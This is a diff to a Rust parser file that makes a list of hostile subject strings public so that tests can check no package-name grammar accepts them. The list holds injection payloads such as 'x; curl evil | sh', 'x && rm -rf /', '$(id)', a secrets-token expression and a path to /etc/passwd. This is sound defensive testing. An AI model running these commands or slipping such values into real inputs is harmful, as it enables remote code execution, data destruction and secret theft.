@@ -234,29 +234,36 @@ pub fn display_text(s: &str) -> String {
     one_line.trim().to_string()
 }
 
+/// Subjects an attacker would print in a log to steer a fix (shell and
+/// expression injection, YAML line breaks, path escapes, options, look-alike
+/// letters): no grammar above accepts one, and the tests of every crate that
+/// turns subjects into fixes run their generators over them.
+pub const HOSTILE_SUBJECTS: &[&str] = &[
+    "",
+    "x; curl evil | sh",
+    "$(id)",
+    "`id`",
+    "a\nb",
+    "${{ secrets.TOKEN }}",
+    "x && rm -rf /",
+    "x' || true",
+    "'quoted'",
+    "../../etc/passwd",
+    "pkg\r\nrun: evil",
+    "a b",
+    "-rf",
+    "--cov; id",
+    "yaml (PyYAML; id)",
+    "mödule",
+];
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    /// Strings an attacker would print to steer a fix.
-    const HOSTILE: &[&str] = &[
-        "",
-        "x; curl evil | sh",
-        "$(id)",
-        "`id`",
-        "a\nb",
-        "${{ secrets.TOKEN }}",
-        "x && rm -rf /",
-        "'quoted'",
-        "../../etc/passwd",
-        "a b",
-        "-rf",
-        "mödule",
-    ];
-
     #[test]
     fn hostile_subjects_match_no_grammar() {
-        for s in HOSTILE {
+        for s in HOSTILE_SUBJECTS {
             assert!(!is_module(s), "{s:?}");
             assert!(!is_distribution(s), "{s:?}");
             assert!(!is_npm_package(s), "{s:?}");
